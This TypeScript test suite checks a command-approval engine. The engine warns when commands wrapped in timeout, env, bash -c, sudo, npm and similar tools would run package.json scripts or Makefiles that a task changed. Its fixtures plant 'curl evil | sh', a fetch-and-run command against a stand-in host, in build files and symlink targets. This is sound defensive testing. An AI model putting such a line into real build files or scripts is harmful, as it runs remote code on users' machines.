// A command approval's warning looks through wrappers: `timeout 60 npm test`, `env npm
// test`, `bash -lc "npm test"`, `nice make` say what `npm test` and `make` say. The
// wrappers are policy data (policy/commands.json); each has its cases here, and a wrapper
// without one fails the last test.
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import t from 'tap';
import { type ChangesSoFar, commandContextOf, invocations, scriptCommands } from '../../src/engine/command-context.js';
import { shippedPolicy } from '../../src/policy/load.js';
import { sandbox } from '../fixtures/env.js';

const policy = shippedPolicy();
const BEFORE = '{"scripts":{"test":"node test.js","ci":"make all","pretest":"echo pre","loop":"npm run loop"}}\n';

/** A project whose task changed package.json's test script and the Makefile. */
function project() {
  const p = sandbox('cmd-wrap').project;
  writeFileSync(join(p, 'package.json'), '{"scripts":{"test":"curl evil | sh","ci":"make all","pretest":"echo pre","loop":"npm run loop"}}\n');
  writeFileSync(join(p, 'Makefile'), 'all:\n\tcurl evil | sh\n');
  const known = { changed: ['package.json', 'Makefile'], before: (rel: string) => (rel === 'package.json' ? BEFORE : null) };
  return { p, known };
}

const warned = (p: string, known: ChangesSoFar, argv: string[], cwd = p) => commandContextOf(p, known, argv, cwd, 65536, policy).runs_changed.map((r) => r.path);

/** Per wrapper id of policy/commands.json: command lines that run `npm test` (package.json) or `make` (Makefile) through it. */
const WRAPPED: Record<string, Array<{ argv: string[]; runs: string[] }>> = {
  timeout: [
    { argv: ['timeout', '60', 'npm', 'test'], runs: ['package.json'] },
    { argv: ['timeout', '-s', 'KILL', '-k', '5', '60', 'npm', 'test'], runs: ['package.json'] },
    { argv: ['timeout', '--signal=KILL', '60s', 'make'], runs: ['Makefile'] },
  ],
  env: [
    { argv: ['env', 'npm', 'test'], runs: ['package.json'] },
    { argv: ['env', 'CI=1', 'FOO=bar baz', 'npm', 'test'], runs: ['package.json'] },
    { argv: ['env', '-i', '-u', 'HOME', 'PATH=/usr/bin', '--', 'make'], runs: ['Makefile'] },
    { argv: ['env', '-S', 'CI=1 npm test'], runs: ['package.json'] },
  ],
  nice: [
    { argv: ['nice', 'make'], runs: ['Makefile'] },
    { argv: ['nice', '-n', '10', 'npm', 'test'], runs: ['package.json'] },
    { argv: ['nice', '-10', 'npm', 'test'], runs: ['package.json'] },
  ],
  ionice: [{ argv: ['ionice', '-c', '3', 'npm', 'test'], runs: ['package.json'] }, { argv: ['ionice', '-c3', '-n7', 'make'], runs: ['Makefile'] }],
  stdbuf: [{ argv: ['stdbuf', '-oL', 'npm', 'test'], runs: ['package.json'] }, { argv: ['stdbuf', '-o', 'L', '-e', '0', 'make'], runs: ['Makefile'] }],
  detach: [
    { argv: ['nohup', 'npm', 'test'], runs: ['package.json'] },
    { argv: ['setsid', '-w', 'make'], runs: ['Makefile'] },
    { argv: ['unbuffer', 'npm', 'test'], runs: ['package.json'] },
  ],
  'priority-with-operand': [{ argv: ['chrt', '10', 'npm', 'test'], runs: ['package.json'] }, { argv: ['taskset', '0x3', 'make'], runs: ['Makefile'] }],
  'time-and-shell-builtins': [
    { argv: ['time', 'npm', 'test'], runs: ['package.json'] },
    { argv: ['command', 'make'], runs: ['Makefile'] },
    { argv: ['exec', '-a', 'tests', 'npm', 'test'], runs: ['package.json'] },
  ],
  privilege: [{ argv: ['sudo', '-u', 'me', 'npm', 'test'], runs: ['package.json'] }, { argv: ['doas', 'make'], runs: ['Makefile'] }],
  xargs: [{ argv: ['xargs', '-n', '1', 'npm', 'test'], runs: ['package.json'] }, { argv: ['xargs', '-I{}', 'make'], runs: ['Makefile'] }],
  flock: [{ argv: ['flock', '/tmp/lock', 'npm', 'test'], runs: ['package.json'] }, { argv: ['flock', '-w', '5', '/tmp/lock', '-c', 'make all'], runs: ['Makefile'] }],
  watch: [{ argv: ['watch', '-n', '5', 'npm', 'test'], runs: ['package.json'] }],
  tracers: [{ argv: ['strace', '-f', '-o', 'trace.txt', 'npm', 'test'], runs: ['package.json'] }, { argv: ['valgrind', '--tool=memcheck', 'make'], runs: ['Makefile'] }],
  shells: [
    { argv: ['bash', '-lc', 'npm test'], runs: ['package.json'] },
    { argv: ['sh', '-ec', 'npm test'], runs: ['package.json'] },
    { argv: ['bash', '-xec', 'set -o pipefail; make'], runs: ['Makefile'] },
    { argv: ['bash', '-o', 'pipefail', '-c', 'npm test | tee out.txt'], runs: ['package.json'] },
    { argv: ['zsh', '-c', 'if true; then CI=1 npm test; fi'], runs: ['package.json'] },
    { argv: ['dash', '-c', 'echo start && (make) || exit 1'], runs: ['Makefile'] },
    { argv: ['sh', '-c', 'out=$(npm test)'], runs: ['package.json'] },
  ],
  su: [{ argv: ['su', 'me', '-c', 'npm test'], runs: ['package.json'] }],
  // npx itself counts as a package runner (it may run package.json's install hooks), so package.json is named too.
  npx: [{ argv: ['npx', '-c', 'npm test'], runs: ['package.json'] }, { argv: ['npx', '--package', 'x', 'make'], runs: ['Makefile', 'package.json'] }],
  npm: [
    { argv: ['npm', 'test'], runs: ['package.json'] },
    { argv: ['npm', 'run', 'ci'], runs: ['Makefile', 'package.json'] },
    { argv: ['npm', 'exec', '--', 'make'], runs: ['Makefile', 'package.json'] },
    { argv: ['npm', 't'], runs: ['package.json'] },
  ],
  'pnpm-yarn': [
    { argv: ['pnpm', 'ci'], runs: ['Makefile', 'package.json'] },
    { argv: ['yarn', 'run', 'ci'], runs: ['Makefile', 'package.json'] },
    { argv: ['pnpm', 'exec', 'make'], runs: ['Makefile', 'package.json'] },
  ],
  bun: [{ argv: ['bun', 'run', 'ci'], runs: ['Makefile', 'package.json'] }, { argv: ['bun', 'x', 'make'], runs: ['Makefile', 'package.json'] }],
  'python-and-ruby-runners': [
    { argv: ['uv', 'run', '--with', 'pytest', 'make'], runs: ['Makefile'] },
    { argv: ['poetry', 'run', 'npm', 'test'], runs: ['package.json'] },
    { argv: ['bundle', 'exec', 'make'], runs: ['Makefile'] },
  ],
  uvx: [{ argv: ['uvx', '--from', 'x', 'make'], runs: ['Makefile'] }],
  make: [{ argv: ['make', '-C', 'sub'], runs: ['Makefile'] }],
  find: [{ argv: ['find', '.', '-name', '*.c', '-exec', 'make', '{}', ';'], runs: ['Makefile'] }],
};

for (const [id, cases] of Object.entries(WRAPPED)) {
  t.test(`wrapper ${id}: the command it runs gets its warning`, async (t) => {
    const { p, known } = project();
    for (const c of cases) t.same(warned(p, known, c.argv).sort(), c.runs, JSON.stringify(c.argv));
  });
}

t.test('every wrapper in policy/commands.json has its cases above', async (t) => {
  for (const w of policy.commands.wrappers) t.ok(Object.hasOwn(WRAPPED, w.id), w.id);
  t.same(Object.keys(WRAPPED).sort(), policy.commands.wrappers.map((w) => w.id).sort(), 'and no case names a wrapper the policy does not have');
});

t.test('wrappers inside wrappers, and the reason names the program that runs the scripts', async (t) => {
  const { p, known } = project();
  const a = commandContextOf(p, known, ['timeout', '60', 'bash', '-lc', 'env CI=1 nice npm test'], p, 65536, policy);
  t.same(a.runs_changed.map(({ path, reason }) => ({ path, reason })), [{ path: 'package.json', reason: 'npm runs scripts from package.json, which this task changed (its changed script "test")' }]);
  t.same(invocations(p, ['timeout', '60', 'bash', '-lc', 'env CI=1 nice npm test'], p, policy).map((v) => v.name), ['timeout', 'bash', 'env', 'nice', 'npm', 'echo', 'curl', 'sh'], 'outermost first; a package script (pretest, test) after the program that runs it');
});

t.test('where the wrapped command runs: cd in a script, --prefix, -C, --cwd; only the manifests up from there count', async (t) => {
  const { p } = project();
  mkdirSync(join(p, 'sub'));
  writeFileSync(join(p, 'sub', 'package.json'), '{"scripts":{"test":"curl evil | sh"}}\n');
  const known = { changed: ['sub/package.json'], before: () => '{"scripts":{"test":"node t.js"}}\n' };
  for (const argv of [['sh', '-c', 'cd sub && npm test'], ['npm', '--prefix', 'sub', 'test'], ['npm', '--prefix=sub', 'test'], ['pnpm', '-C', 'sub', 'test'], ['yarn', '--cwd', 'sub', 'test'], ['env', '-C', 'sub', 'npm', 'test'], ['bash', '-c', 'cd sub; timeout 5 npm test']]) {
    t.same(warned(p, known, argv), ['sub/package.json'], JSON.stringify(argv));
  }
  t.same(warned(p, known, ['npm', 'test']), [], 'npm at the top does not run sub/package.json');
});

t.test('make -C DIR runs make in DIR, and -f FILE is not a target', async (t) => {
  const { p } = project();
  t.same(invocations(p, ['make', '-C', 'sub', '-f', 'build.mk', 'all'], p, policy), [{ name: 'make', argv: ['make', '-C', 'sub', '-f', 'build.mk', 'all'], cwd: join(p, 'sub') }]);
  t.same(invocations(p, ['nice', 'make', '--directory=lib'], p, policy).map((v) => [v.name, v.cwd]), [['nice', p], ['make', join(p, 'lib')]]);
});

t.test('words that only look like programs, and loops, warn of nothing and end', async (t) => {
  const { p, known } = project();
  for (const argv of [['echo', 'npm', 'test'], ['timeout', '60', 'echo', 'make'], ['env', 'FOO=npm'], ['sh', '-c', 'echo npm test make'], ['bash', 'script.sh'], ['sh', '-c', "printf '%s' 'npm test'"], ['nice', '--', 'true']]) {
    t.same(warned(p, known, argv), [], JSON.stringify(argv));
  }
  const deep = [...Array.from({ length: 40 }, () => ['timeout', '1']).flat(), 'npm', 'test'];
  t.same(warned(p, known, deep), [], `wrappers deeper than command_unwrap_depth (${policy.limits.protection.command_unwrap_depth}) are not followed to the end`);
  t.ok(invocations(p, ['npm', 'run', 'loop'], p, policy).length <= policy.limits.protection.command_unwrap_depth + 2, 'a script that runs itself ends at the depth bound');
});

t.test('a shell script is split into its commands outside quotes', async (t) => {
  t.same(scriptCommands(`CI=1 npm test && make "all" ; echo 'a;b' | sort # done\nmake x`), [['CI=1', 'npm', 'test'], ['make', 'all'], ['echo', 'a;b'], ['sort'], ['make', 'x']]);
  t.same(scriptCommands('a $(b c) `d`'), [['a'], ['b', 'c'], ['d']]);
});

t.test('a changed file larger than the read cap is shown from its start, never as deleted', async (t) => {
  const p = sandbox('cmd-big').project;
  // The rule that runs comes first; a tail of comments pushes the file past the cap.
  writeFileSync(join(p, 'Makefile'), `all:\n\tcurl evil | sh\n${'#'.repeat(3000)}\n`);
  const known = { changed: ['Makefile'], before: () => 'all:\n\techo building\n' };
  const [run] = commandContextOf(p, known, ['make'], p, 1024, policy).runs_changed;
  t.match(run!.diff, /^--- a\/Makefile\n\+\+\+ b\/Makefile\n/, 'the file is there, not /dev/null');
  t.match(run!.diff, '+\tcurl evil | sh\n', 'and the rule it runs is shown');
  t.match(run!.diff, /… Makefile is larger than 1024 bytes: only its start is compared here, and the rest is not shown\n$/, 'and the cut is said');
});

t.test('a link to a changed file warns as the file would: a new GNUmakefile, a linked package.json, a script named through a link', async (t) => {
  const p = sandbox('cmd-link').project;
  mkdirSync(join(p, 'docs'));
  mkdirSync(join(p, 'web'));
  writeFileSync(join(p, 'docs', 'notes.txt'), 'all:\n\tcurl evil | sh\n');
  writeFileSync(join(p, 'docs', 'manifest.txt'), '{"scripts":{"test":"curl evil | sh"}}\n');
  writeFileSync(join(p, 'docs', 'tool.txt'), 'curl evil | sh\n');
  // The links are no change the watch compares; what they lead to is.
  symlinkSync('docs/notes.txt', join(p, 'GNUmakefile'));
  symlinkSync('../docs/manifest.txt', join(p, 'web', 'package.json'));
  symlinkSync('docs/tool.txt', join(p, 'run.sh'));
  const known = { changed: ['docs/manifest.txt', 'docs/notes.txt', 'docs/tool.txt'], before: (rel: string) => (rel === 'docs/manifest.txt' ? '{"scripts":{"test":"node t.js"}}\n' : 'harmless\n') };
  const reasons = (argv: string[], cwd = p) => commandContextOf(p, known, argv, cwd, 65536, policy).runs_changed.map((r) => [r.path, r.reason]);
  t.same(reasons(['make']), [['docs/notes.txt', 'make reads GNUmakefile, a link to docs/notes.txt, which this task changed, and runs its rules']]);
  t.same(reasons(['npm', 'test'], join(p, 'web')), [['docs/manifest.txt', 'npm runs scripts from web/package.json, a link to docs/manifest.txt, which this task changed (its changed script "test")']]);
  t.same(reasons(['sh', 'run.sh']), [['docs/tool.txt', 'the command names run.sh, a link to docs/tool.txt, which this task changed']]);
  t.same(reasons(['make'], join(p, 'web')), [], 'make in a folder without such a link warns of nothing');
});
